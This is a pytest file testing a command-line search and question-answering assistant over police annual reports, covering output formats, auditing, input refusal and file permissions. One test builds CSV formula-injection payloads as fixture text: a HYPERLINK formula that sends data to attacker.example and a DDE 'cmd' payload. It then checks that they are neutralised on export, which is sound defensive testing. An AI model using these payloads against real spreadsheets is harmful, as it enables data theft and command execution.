import csv
import io
import json
import os
import shutil
import stat
from contextlib import redirect_stdout

import pytest
from conftest import GWENT_TXT, cli
from test_local import fake_listener

from assistant.cli import main
from assistant.local import socket_path
from assistant.settings import get_settings


@pytest.fixture(autouse=True)
def loose_umask():
    """A login's usual umask while each test runs (``main`` sets its own), and the session's back after."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory, fake_encoder):
    """The commands run in this process, embedding with the hashing encoder and auditing to a log of their own."""
    root = tmp_path_factory.mktemp("cli")
    old = os.umask(0o022)
    (root / "r").mkdir()
    shutil.copy(GWENT_TXT, root / "r" / GWENT_TXT.name)
    with pytest.MonkeyPatch.context() as env:
        env.setenv("ASSISTANT_EMBEDDING_MODEL", str(fake_encoder))
        env.setenv("ASSISTANT_AUDIT_DB", str(root / "audit.sqlite3"))
        get_settings.cache_clear()
        assert main(["ingest", str(root / "r"), "--index", str(root / "idx"), "--no-progress"]) == 0
        yield root / "idx"
    get_settings.cache_clear()
    os.umask(old)


def run(args: list[str]) -> str:
    buf = io.StringIO()
    with redirect_stdout(buf):
        assert main(args) == 0
    return buf.getvalue()


def test_search_json_has_citation_fields(index_dir):
    out = json.loads(run(["search", "requests for service 2018/19", "--index", str(index_dir), "--json", "--k", "3"]))
    assert out["results"] and out["latency_ms"] >= 0
    first = out["results"][0]
    for key in ("document", "source", "page", "paragraph", "heading", "text", "score"):
        assert key in first
    assert any("24,635" in r["text"] for r in out["results"])


def test_search_csv_export(index_dir):
    rows = list(csv.DictReader(io.StringIO(run(["search", "Airwave variance", "--index", str(index_dir), "--csv"]))))
    assert rows and rows[0]["rank"] == "1" and rows[0]["document"].startswith("Annual Report")


def test_search_report_filter(index_dir):
    out = json.loads(run(["search", "budget", "--index", str(index_dir), "--json", "--report", "no-such-report"]))
    assert out["results"] == []


def test_searches_and_questions_are_audited_as_the_operating_system_user(index_dir):
    import getpass

    from assistant.audit import AuditLog

    run(["search", "Airwave variance", "--index", str(index_dir), "--json", "--clearance", "public"])
    run(["ask", "How many requests for service were there in 2018/19?", "--index", str(index_dir), "--json"])
    log = AuditLog(index_dir.parent / "audit.sqlite3")
    try:
        ask, search = log.entries(limit=2)
    finally:
        log.close()
    assert (search["action"], search["user"], search["role"], search["clearance"]) == (
        "search",
        getpass.getuser(),
        "cli",
        "public",
    )
    assert search["query"] == "Airwave variance"
    assert (ask["action"], ask["clearance"], ask["answerer"]) == ("ask", "restricted", "extractive")
    assert json.loads(ask["chunk_ids"]) and "latency_ms" in json.loads(ask["detail"])


def test_a_running_server_answers_the_command_line_as_it_would_itself(index_dir):
    from assistant.api import Assistant
    from assistant.audit import AuditLog
    from assistant.cli import run_in_server
    from assistant.local import serving

    question = ["ask", "How many requests for service were there in 2018/19?", "--index", str(index_dir), "--json"]
    own = json.loads(run([*question, "--no-server"]))
    settings = get_settings().with_index(str(index_dir))
    log = AuditLog.open(settings)
    before = len(log.entries(limit=None))
    served: list = []
    with Assistant(settings=settings) as shared:

        def answer(argv: list[str]) -> tuple[int, str]:
            served.append(argv)
            return run_in_server(argv, shared)

        with serving(index_dir, answer):
            remote = json.loads(run(question))
    assert served == [question]
    own.pop("latency_ms"), remote.pop("latency_ms")
    assert remote == own and "24,635" in remote["answer"]
    entries = log.entries(limit=None)
    assert len(entries) == before + 1 and entries[0]["role"] == "cli" and entries[0]["action"] == "ask"
    log.close()


def _audited(index_dir, n: int = 1) -> list[dict]:
    from assistant.audit import AuditLog

    log = AuditLog(index_dir.parent / "audit.sqlite3")
    try:
        return log.entries(limit=n)
    finally:
        log.close()


@pytest.mark.parametrize("mode", ["listener", "file"])
def test_the_command_line_answers_itself_rather_than_ask_another_users_listener(index_dir, capsys, caplog, mode):
    question = "How many requests for service were there in 2018/19?"
    with fake_listener(socket_path(index_dir), mode) as heard:
        assert main(["ask", question, "--index", str(index_dir)]) == 0
    out, err = capsys.readouterr()
    assert "24,635" in out and "FAKE ANSWER" not in out
    assert heard == [] and "not asking the server" in caplog.text
    assert "answered by the running assistant serve" not in err


@pytest.mark.parametrize("k", ["100000", "-5", "0", "five"])
def test_search_k_is_bounded(index_dir, capsys, k):
    with pytest.raises(SystemExit) as exited:
        main(["search", "Airwave", "--index", str(index_dir), "--k", k])
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert "argument --k:" in err and ("from 1 to 100" in err or "not a whole number" in err)


def test_search_k_of_100_is_taken(index_dir):
    out = json.loads(run(["search", "Airwave", "--index", str(index_dir), "--json", "--k", "100", "--all"]))
    assert 5 < len(out["results"]) <= 100 and out["relevance_floor"] is False


def test_search_ends_at_the_relevance_floor_as_the_foi_tab_does(index_dir):
    """The best-ranked passages of a search, cut where relevance ends (the FOI tab's floor); --all lists
    the N best anyway. A search for words no report holds says so instead of listing what ranked first."""
    floor = json.loads(run(["search", "Airwave variance", "--index", str(index_dir), "--json", "--k", "20"]))
    every = json.loads(run(["search", "Airwave variance", "--index", str(index_dir), "--json", "--k", "20", "--all"]))
    assert floor["relevance_floor"] is True and len(every["results"]) == 20
    assert 0 < len(floor["results"]) < len(every["results"])
    assert [r["chunk_id"] for r in floor["results"]] == [
        r["chunk_id"] for r in every["results"] if r["chunk_id"] in {f["chunk_id"] for f in floor["results"]}
    ]  # the same order, only cut
    assert all("airwave" in (r["text"] + r["heading"]).lower() for r in floor["results"])
    text = run(["search", "quantum chromodynamics lattice gauge", "--index", str(index_dir)])
    assert "No relevant passages" in text and "--all" in text
    assert "No relevant passages" not in run(
        ["search", "quantum chromodynamics lattice gauge", "--index", str(index_dir), "--all"]
    )


def test_search_csv_quotes_formula_cells(tmp_path, fake_encoder, monkeypatch):
    reports = tmp_path / "r"
    reports.mkdir()
    filler = "Filler about the police budget, fleet vehicles and stations for the year. " * 40
    (reports / "links.txt").write_text(
        '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the annual report") is where the annual '
        f"report can be read online in full.\n\n{filler}\n\n+cmd|' /C calc'!A0 opens the calculator. {filler}\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("ASSISTANT_EMBEDDING_MODEL", str(fake_encoder))
    monkeypatch.setenv("ASSISTANT_AUDIT_DB", str(tmp_path / "audit.sqlite3"))
    get_settings.cache_clear()
    try:
        assert main(["ingest", str(reports), "--index", str(tmp_path / "idx"), "--no-progress"]) == 0
        text = run(
            [
                "search",
                "HYPERLINK annual report calculator",
                "--index",
                str(tmp_path / "idx"),
                "--csv",
                "--k",
                "10",
                "--all",
            ]
        )
    finally:
        get_settings.cache_clear()
    rows = list(csv.DictReader(io.StringIO(text)))
    texts = [r["text"] for r in rows]
    assert any(t.startswith("'=HYPERLINK(") for t in texts) and any(t.startswith("'+cmd") for t in texts)
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize(
    ("args", "what", "problem"),
    [
        (["ask", "How many \ud800 requests?"], "question", "broken character at position 10"),
        (["ask", "How many\x00 requests?"], "question", "control character (U+0000 at position 9)"),
        (["search", "Airwave\udcff"], "search", "cannot be encoded as UTF-8 text"),
        (["search", "Airwave", "--report", "Gwent\x00"], "--report text", "control character (U+0000"),
    ],
)
def test_unencodable_text_is_refused_and_audited(index_dir, capsys, args, what, problem):
    assert main([*args, "--index", str(index_dir)]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert f"error: the {what} cannot be used: it " in captured.err and problem in captured.err
    (entry,) = _audited(index_dir)
    assert entry["action"] == f"{args[0]} refused" and entry["role"] == "cli"
    assert problem in json.loads(entry["detail"])["reason"]
    assert "\\x00" in entry["query"] or "\\ud" in entry["query"] or "\\udc" in entry["query"]


def test_an_argv_that_is_not_utf8_is_refused_by_the_command(tmp_path):
    """Bytes that are not UTF-8 reach Python as lone surrogates (surrogateescape)."""
    env = {**os.environ, "ASSISTANT_AUDIT_DB": str(tmp_path / "audit.sqlite3")}
    done = cli("ask", os.fsdecode(b"How many \xed\xa0\x80 requests?"), "--index", str(tmp_path / "idx"), env=env)
    assert done.returncode == 2 and done.stdout == ""
    assert "error: the question cannot be used: it cannot be encoded as UTF-8 text" in done.stderr
    assert "Traceback" not in done.stderr


def test_the_index_is_owner_only_after_ingest(index_dir):
    assert index_dir.stat().st_mode & 0o777 == 0o700
    found = {"dirs": 0, "files": 0}
    for root, dirs, files in os.walk(index_dir):
        for name in dirs:
            found["dirs"] += 1
            assert stat.S_IMODE(os.lstat(os.path.join(root, name)).st_mode) == 0o700, name
        for name in files:
            found["files"] += 1
            mode = os.lstat(os.path.join(root, name)).st_mode
            assert stat.S_ISSOCK(mode) or stat.S_IMODE(mode) == 0o600, name
    assert found["dirs"] >= 2 and found["files"] >= 3  # the Chroma folders and files, the lexical index
